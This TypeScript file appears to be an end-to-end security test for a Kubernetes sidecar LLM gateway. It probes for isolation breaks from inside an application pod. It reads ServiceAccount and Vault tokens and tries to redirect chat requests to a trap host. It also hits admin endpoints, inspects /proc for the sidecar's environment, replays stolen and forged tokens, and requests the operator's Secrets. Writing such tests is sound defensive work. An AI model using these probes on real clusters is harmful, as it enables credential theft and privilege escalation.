/**
 * Runs inside an application's container and tries what it can: `node -e THIS -- IP TOKEN`, with
 * the address of a pod of another namespace and a token of that pod. Prints what came of it as one
 * JSON object.
 */
import { existsSync, readdirSync, readFileSync } from "node:fs"
import http from "node:http"
import https from "node:https"

const [, neighbour = "", neighboursToken = ""] = process.argv
const TRAP = "http://provider.e2e-hostile-provider.svc.cluster.local:9999"
const OPERATOR = "https://sidegate-operator.sidegate-system.svc:8443"
const KUBERNETES = "https://kubernetes.default.svc"
const OWN_TOKEN = readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token", "utf8")
const VAULT_TOKEN = readFileSync("/var/run/vault/token", "utf8")

interface Said {
  readonly url: string
  readonly method?: string
  /** The request line's target, where it is not the URL's path. */
  readonly target?: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: unknown
}

/** Status and text; the error's code when there is no answer. */
function say({ url, method = "GET", target, headers = {}, body }: Said): Promise<string> {
  const { protocol, hostname, port, pathname, search } = new URL(url)
  const send = protocol === "https:" ? https.request : http.request
  const text = body === undefined ? "" : JSON.stringify(body)
  const length = { "content-length": String(Buffer.byteLength(text)) }
  const json = text === "" ? {} : { "content-type": "application/json", ...length }
  return new Promise((resolve) => {
    const outgoing = send(
      {
        hostname,
        port,
        path: target ?? pathname + search,
        method,
        headers: { ...json, ...headers },
        // An attacker does not care.
        rejectUnauthorized: false,
        signal: AbortSignal.timeout(10_000),
      },
      (response) => {
        let answer = ""
        response.setEncoding("utf8").on("data", (piece: string) => {
          answer += piece
        })
        response.on("end", () => resolve(`${response.statusCode} ${answer.trim()}`))
        response.on("error", (error) => resolve(error.message))
      },
    )
    outgoing.on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message))
    outgoing.end(text)
  })
}

const CHAT = { model: "smart", messages: [{ role: "user", content: "Hello?" }] }
const chat = (more: Partial<Said> & { readonly fields?: object }) =>
  say({
    url: "http://127.0.0.1:4141/v1/chat/completions",
    method: "POST",
    body: { ...CHAT, ...more.fields },
    ...more,
  })

/** Status and code of an error. */
async function codeOf(answer: Promise<string>): Promise<string> {
  const text = await answer
  const code = /"code":"(\w+)"/.exec(text)?.[1]
  return code === undefined ? text.slice(0, 3) : `${text.slice(0, 3)} ${code}`
}

async function destinations() {
  const header = (name: string) => codeOf(chat({ headers: { [name]: TRAP } }))
  return {
    plain: await codeOf(chat({})),
    "body api_base": await codeOf(chat({ fields: { api_base: TRAP } })),
    "body base_url, nested": await codeOf(
      chat({ fields: { metadata: { a: [{ base_url: TRAP }] } } }),
    ),
    "body api_key": await codeOf(chat({ fields: { api_key: "mine" } })),
    "target in absolute form": await codeOf(chat({ target: `${TRAP}/v1/chat/completions` })),
    "target of two slashes": await codeOf(chat({ target: TRAP.slice(5) })),
    "target that climbs": await codeOf(chat({ target: "/v1/../../v1/chat/completions" })),
    "host of another": await header("host"),
    "x-portkey-custom-host": await header("x-portkey-custom-host"),
    "x-forwarded-host": await header("x-forwarded-host"),
    "authorization of its own": await header("authorization"),
  }
}

const PATHS = [
  ...["/", "/healthz", "/readyz", "/metrics", "/debug", "/heap", "/config", "/config_dump"],
  ...["/quit", "/quitquitquit", "/shutdown", "/drain", "/snapshot", "/credentials", "/env"],
  ...["/v1/models", "/v1/config", "/v1/hello", "/v1/status", "/v1/usage", "/logging"],
]

/** All that answers with anything but "there is no such thing" on the ports of the sidecar. */
async function answers(): Promise<readonly string[]> {
  const found: string[] = []
  for (const port of [4141, 4142]) {
    for (const method of ["GET", "POST", "PUT", "PATCH", "DELETE"]) {
      for (const path of PATHS) {
        const body = method === "GET" ? undefined : {}
        const text = await say({ url: `http://127.0.0.1:${port}${path}`, method, body })
        const status = text.slice(0, 3)
        if (!["404", "405"].includes(status)) found.push(`${method} ${port} ${path} ${status}`)
      }
    }
  }
  return found
}

/** Ports that something in the pod listens on, with the addresses. */
function listening(): readonly string[] {
  const rows = ["tcp", "tcp6"].flatMap((name) =>
    readFileSync(`/proc/net/${name}`, "utf8").trim().split("\n").slice(1),
  )
  const sockets = rows.flatMap((row) => {
    const [, local = "", , state] = row.trim().split(/\s+/)
    return state === "0A" ? [local] : []
  })
  const named = sockets.map((local) => {
    const [address = "", port = ""] = local.split(":")
    const isLoopback = address === "0100007F" || /^0{24}01000000$/.test(address)
    return `${isLoopback ? "loopback" : "any"} ${Number.parseInt(port, 16)}`
  })
  return [...new Set(named)].sort()
}

/** What of the sidecar can be found from in here, as root. */
function traces() {
  const processes = readdirSync("/proc").filter((name) => /^\d+$/.test(name))
  const read = (path: string): string => {
    try {
      return readFileSync(path, "utf8")
    } catch {
      return ""
    }
  }
  return {
    folders: ["/var/run/sidegate", "/var/lib/sidegate"].filter(existsSync),
    mounts: read("/proc/mounts")
      .split("\n")
      .filter((line) => /sidegate/.test(line)),
    // The sidecar's program is /app/main.mjs too, with its settings around it.
    processes: processes.filter((pid) => read(`/proc/${pid}/environ`).includes("SIDEGATE_")),
    key: process.env["OPENAI_API_KEY"],
  }
}

async function channel() {
  const tokens: Readonly<Record<string, string | null>> = {
    "no token": null,
    "its own ServiceAccount's": OWN_TOKEN,
    "another audience's": VAULT_TOKEN,
    "another namespace's": neighboursToken,
    "a made-up one": "eyJhbGciOiJub25lIn0.eyJhdWQiOlsic2lkZWdhdGUiXX0.",
  }
  const routes: readonly Said[] = [
    { url: `${OPERATOR}/v1/hello`, method: "POST", body: { boot: "b", held: null } },
    { url: `${OPERATOR}/v1/status`, method: "POST", body: {} },
    { url: `${OPERATOR}/v1/usage`, method: "POST", body: { boot: "b", records: [] } },
    { url: `${OPERATOR}/v1/config?session=1` },
    { url: `${OPERATOR}/metrics` },
  ]
  const heard: Record<string, readonly string[]> = {}
  for (const [name, token] of Object.entries(tokens)) {
    const headers = token === null ? {} : { authorization: `Bearer ${token}` }
    const said: string[] = []
    for (const route of routes) said.push(await say({ ...route, headers }))
    heard[name] = [...new Set(said)]
  }
  return heard
}

async function elsewhere() {
  const authorization = `Bearer ${OWN_TOKEN}`
  const secrets = `${KUBERNETES}/api/v1/namespaces/sidegate-system/secrets`
  return {
    "its neighbour's gateway": await say({ url: `http://${neighbour}:4141/v1/models` }),
    "Secrets of the operator": (await say({ url: secrets, headers: { authorization } })).slice(
      0,
      3,
    ),
  }
}

const metrics = await say({ url: "http://127.0.0.1:4142/metrics" })
const result = {
  destinations: await destinations(),
  user: await codeOf(chat({ headers: { "x-sidegate-user": "user-canary" } })),
  listening: listening(),
  answers: await answers(),
  traces: traces(),
  channel: await channel(),
  elsewhere: await elsewhere(),
  metrics: metrics + (await say({ url: "http://127.0.0.1:4142/metrics" })),
}
console.log(JSON.stringify(result))
